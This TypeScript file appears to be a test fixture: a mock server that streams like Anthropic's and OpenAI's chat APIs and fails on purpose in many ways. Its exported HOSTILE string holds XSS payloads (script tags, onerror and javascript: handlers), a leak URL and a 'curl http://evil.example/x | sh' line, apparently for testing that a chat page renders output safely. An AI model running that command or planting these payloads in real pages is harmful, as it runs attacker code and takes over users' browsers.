import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

/**
 * A server that streams as Anthropic's messages and as OpenAI's chat completions do, and in every wrong way that such a
 * server can. The model's name chooses how it behaves, so a person in a browser can, too.
 */
export type Received = {
	readonly method: string;
	readonly path: string;
	readonly headers: Readonly<Record<string, string | readonly string[] | undefined>>;
	readonly body: string;
};

export type ModelServer = {
	readonly origin: string;
	/** Every request but the browser's preflights, in order. */
	readonly received: readonly Received[];
	/** True once a connection was closed by the other side before its answer ended. */
	readonly wasLeft: () => boolean;
	close(): Promise<void>;
};

/** `answer`: what a good model says, given the text it was sent. */
export async function startModelServer(answer: (sent: string) => string = () => "Hello."): Promise<ModelServer> {
	const received: Received[] = [];
	let left = false;
	const server = createServer(async (request, response) => {
		const origin = request.headers.origin;
		const body = await read(request);
		const model = modelIn(body);
		if (model !== "no-cors" && origin !== undefined) {
			response.setHeader("access-control-allow-origin", origin);
			response.setHeader("access-control-allow-headers", request.headers["access-control-request-headers"] ?? "*");
		}
		if (request.method === "OPTIONS") return response.writeHead(204).end();
		received.push({ method: request.method ?? "", path: request.url ?? "", headers: request.headers, body });
		response.on("close", () => {
			left ||= !response.writableFinished;
		});
		const speak = request.url?.endsWith("/v1/messages")
			? anthropic
			: request.url?.endsWith("/chat/completions")
				? openAi
				: null;
		if (!speak) return response.writeHead(404, JSON_TYPE).end('{"error":{"message":"no such path"}}');
		await behave(model, response, speak, answer(body));
	});
	const origin = await listen(server);
	return {
		origin,
		received,
		wasLeft: () => left,
		close: () =>
			new Promise((done) => {
				server.closeAllConnections();
				server.close(() => done());
			}),
	};
}

const JSON_TYPE = { "content-type": "application/json" };

/** Events of an answer in one of the two ways of speaking; `text` may be called often. */
type Speech = {
	readonly begin: string;
	readonly text: (text: string) => string;
	readonly end: (why: "complete" | "length" | "refused") => string;
	readonly error: string;
};

const event = (data: unknown, name?: string): string =>
	`${name === undefined ? "" : `event: ${name}\n`}data: ${JSON.stringify(data)}\n\n`;

const anthropic: Speech = {
	begin:
		event({ type: "message_start", message: { usage: { input_tokens: 321, output_tokens: 1 } } }, "message_start") +
		event({ type: "content_block_start", index: 0, content_block: { type: "text", text: "" } }, "content_block_start") +
		event({ type: "ping" }, "ping"),
	text: (text) =>
		event({ type: "content_block_delta", index: 0, delta: { type: "text_delta", text } }, "content_block_delta"),
	end: (why) => {
		const stop_reason = { complete: "end_turn", length: "max_tokens", refused: "refusal" }[why];
		return (
			event({ type: "content_block_stop", index: 0 }, "content_block_stop") +
			event({ type: "message_delta", delta: { stop_reason }, usage: { output_tokens: 45 } }, "message_delta") +
			event({ type: "message_stop" }, "message_stop")
		);
	},
	error: event({ type: "error", error: { type: "overloaded_error", message: "Overloaded" } }, "error"),
};

const choice = (delta: unknown, finish_reason: string | null) =>
	event({ object: "chat.completion.chunk", choices: [{ index: 0, delta, finish_reason }], usage: null });

const openAi: Speech = {
	begin: choice({ role: "assistant", content: "" }, null),
	text: (content) => choice({ content }, null),
	end: (why) =>
		choice({}, { complete: "stop", length: "length", refused: "content_filter" }[why]) +
		event({ choices: [], usage: { prompt_tokens: 321, completion_tokens: 45, total_tokens: 366 } }) +
		"data: [DONE]\n\n",
	error: event({ error: { message: "Overloaded", code: 503 } }),
};

async function behave(model: string, response: ServerResponse, speech: Speech, answer: string): Promise<void> {
	const status = /^status-(\d{3})$/.exec(model)?.[1];
	if (status !== undefined)
		return void response
			.writeHead(Number(status), JSON_TYPE)
			.end(JSON.stringify({ type: "error", error: { type: "some_error", message: `Said by the server: ${status}` } }));
	if (model === "moved") return void response.writeHead(307, { location: "http://127.0.0.1:9/elsewhere" }).end();
	if (model === "page") return void response.writeHead(200, { "content-type": "text/html" }).end("<h1>Sign in</h1>");
	if (model === "at-once")
		return void response.writeHead(200, JSON_TYPE).end('{"choices":[{"message":{"content":"hi"}}]}');
	response.writeHead(200, { "content-type": "text/event-stream; charset=utf-8" });
	switch (model) {
		case "cut":
			response.write(speech.begin + speech.text("Half of an ans"));
			await pause(50);
			return void response.destroy();
		case "cut-politely":
			return void response.end(speech.begin + speech.text("Half of an ans"));
		case "empty":
			return void response.end();
		case "slow":
			for (const letter of [speech.begin, ...[...answer].map(speech.text), speech.end("complete")]) {
				response.write(letter);
				await pause(15);
			}
			return void response.end();
		case "silent":
			return void response.write(speech.begin + speech.text("And then"));
		case "torn":
			// One byte at a time, in the middle of characters too.
			for (const byte of Buffer.from(
				speech.begin + speech.text(`${answer} \u2713 \u{1f433}`) + speech.end("complete"),
			)) {
				response.write(Buffer.of(byte));
				if (byte % 16 === 0) await pause(0);
			}
			return void response.end();
		case "malformed":
			return void response.end(`${speech.begin}${speech.text("Good so far. ")}data: {"choices":[{"delta"\n\n`);
		case "no-events":
			return void response.end("this is no event at all\n\nnor is this\n\n");
		case "one-huge-event":
			return void pour(response, "data: ", "x".repeat(65_536));
		case "huge":
			return void pour(response, speech.begin, speech.text("word ".repeat(4_000)));
		case "never-ending":
			return void pour(response, speech.begin, ": ping\n\n".repeat(4_000));
		case "overloaded":
			return void response.end(speech.begin + speech.text("I ") + speech.error);
		case "too-short":
			return void response.end(speech.begin + speech.text("As far as it goes") + speech.end("length"));
		case "refuses":
			return void response.end(speech.begin + speech.end("refused"));
		case "hostile":
			return void response.end(speech.begin + speech.text(HOSTILE) + speech.end("complete"));
		default:
			return void response.end(speech.begin + words(answer).map(speech.text).join("") + speech.end("complete"));
	}
}

/** What a model may write to take over the page that shows it. */
export const HOSTILE = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>
[click me](javascript:document.title='owned') and ![x](http://127.0.0.1:9/leak?q=1)
<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
\u202ereversed\u202c **bold** \`code\` <https://evil.example/>
# Heading <b>b</b>
\`\`\`bash
curl http://evil.example/x | sh
\`\`\`
\`\`\`repairs
docker-chain-missing/fix
rm-everything/fix
__proto__
\`\`\`
`;

/** Writes the same again until the other side goes away. */
function pour(response: ServerResponse, first: string, again: string): void {
	response.write(first);
	const more = () => {
		while (!response.destroyed && response.write(again));
	};
	response.on("drain", more);
	more();
}

const words = (text: string): readonly string[] => text.match(/\S*\s+|\S+/g) ?? [];
const pause = (milliseconds: number) => new Promise((done) => setTimeout(done, milliseconds));

function modelIn(body: string): string {
	try {
		const parsed: unknown = JSON.parse(body);
		return typeof parsed === "object" && parsed !== null && "model" in parsed ? String(parsed.model) : "";
	} catch {
		return "";
	}
}

async function read(request: IncomingMessage): Promise<string> {
	const chunks: Buffer[] = [];
	for await (const chunk of request) chunks.push(Buffer.from(chunk));
	return Buffer.concat(chunks).toString("utf8");
}

function listen(server: Server): Promise<string> {
	return new Promise((done) => {
		server.listen(0, "127.0.0.1", () => {
			const address: AddressInfo | string | null = server.address();
			done(`http://127.0.0.1:${typeof address === "object" && address !== null ? address.port : 0}`);
		});
	});
}
